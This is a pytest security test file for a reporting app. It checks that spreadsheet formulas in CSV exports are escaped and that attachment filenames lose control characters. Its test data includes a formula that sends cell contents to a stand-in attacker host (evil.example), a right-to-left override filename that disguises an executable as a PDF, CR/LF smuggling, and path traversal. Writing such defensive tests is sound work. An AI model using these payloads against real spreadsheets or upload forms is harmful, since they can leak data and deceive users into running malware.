"""Eighth adversarial audit: what one member submits, read by another member's staff.

A member's text that starts like a spreadsheet formula must reach every CSV we write as text
(the exports are covered by ``test_publish_api``; here an import's rejected rows, which
the API, the web form and the CLI hand out), and our importer must read its own CSV back
unchanged. See docs/security.md ("Input handling and output escaping").
"""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from ceasefire.spreadsheet import FORMULA_STARTS, spreadsheet_text, text_from_spreadsheet
from tests.factories.members import Cast
from tests.factories.reports import CSV_HEADER, csv_row, shelling_body

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"details")'


def _csv(rows: list[dict[str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=CSV_HEADER)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


def _narratives(client: TestClient, cast: Cast) -> set[str]:
    page = client.get("/api/v1/reports?limit=100", headers=cast.bearer("tur")).json()
    return {item.get("narrative") for item in page["items"]}


def test_rejected_rows_come_back_as_text_and_read_back_unchanged(
    client: TestClient, cast: Cast
) -> None:
    """The rejects CSV echoes the uploader's cells and our reasons: a cell that would run as a
    formula gets a leading apostrophe; the corrected file, imported again, stores the text
    that was first sent (the importer drops that apostrophe)."""
    bad = csv_row(2, category="fireworks", narrative=FORMULA, event_place="@SUM(1+1)")
    body = _csv([csv_row(1), bad])
    answer = client.post(
        "/api/v1/reports/import?skip_invalid=true",
        content=body,
        headers={"Content-Type": "text/csv", **cast.bearer("tur")},
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.json()["rejects_csv"])))
    header, rejected = rows[0], rows[1]
    cells = dict(zip(header, rejected, strict=True))
    assert cells["narrative"] == "'" + FORMULA
    assert cells["event_place"] == "'@SUM(1+1)"
    assert cells["event_lon"] == bad["event_lon"]  # numbers stay numbers
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS or cell.lstrip("+-").replace(".", "").isdigit()

    fixed = {c: cells[c] for c in CSV_HEADER} | {"category": "shelling"}
    again = client.post(
        "/api/v1/reports/import",
        content=_csv([fixed]),
        headers={"Content-Type": "text/csv", **cast.bearer("tur")},
    )
    assert again.status_code == 200, again.text
    assert again.json()["imported"] == 1
    assert FORMULA in _narratives(client, cast)
    assert "'" + FORMULA not in _narratives(client, cast)


def test_spreadsheet_text_round_trips() -> None:
    for text in (FORMULA, "+1+2", "-", "@x", "\tx", "\rx", "plain", "", "'quoted", "-12.5"):
        assert text_from_spreadsheet(spreadsheet_text(text)) == text
    assert spreadsheet_text("-12.5") == "-12.5"
    assert spreadsheet_text("-1+2") == "'-1+2"


@pytest.mark.parametrize(
    ("sent", "stored"),
    [
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # shown as "invoiceexe.pdf" otherwise
        ("crater\r\nX-Note: 1.jpg", "craterX-Note: 1.jpg"),
        ("..\\..\\evidence\x1b[2J.pdf", "evidence[2J.pdf"),
        ("доклад.pdf", "доклад.pdf"),
        ("\u200f\x07", None),
    ],
)
def test_an_attachment_name_reaches_other_members_without_control_or_format_characters(
    client: TestClient, cast: Cast, sent: str, stored: str | None
) -> None:
    """The name a filer chose is listed to the other members (API, web, CLI) and ledgered:
    a right-to-left override disguised an executable as a PDF, CR/LF and ESC reached them
    raw, and a Windows path kept its folders."""
    report = client.post("/api/v1/reports", json=shelling_body(), headers=cast.bearer("tur"))
    assert report.status_code == 201, report.text
    report_id = report.json()["id"]
    added = client.post(
        f"/api/v1/reports/{report_id}/attachments?filename={quote(sent)}",
        content=b"%PDF-1.4",
        headers={"Content-Type": "application/pdf", **cast.bearer("tur")},
    )
    assert added.status_code == 201, added.text
    assert added.json()["filename"] == stored
    listed = client.get(f"/api/v1/reports/{report_id}", headers=cast.bearer("rus")).json()
    assert [a["filename"] for a in listed["attachments"]] == [stored]
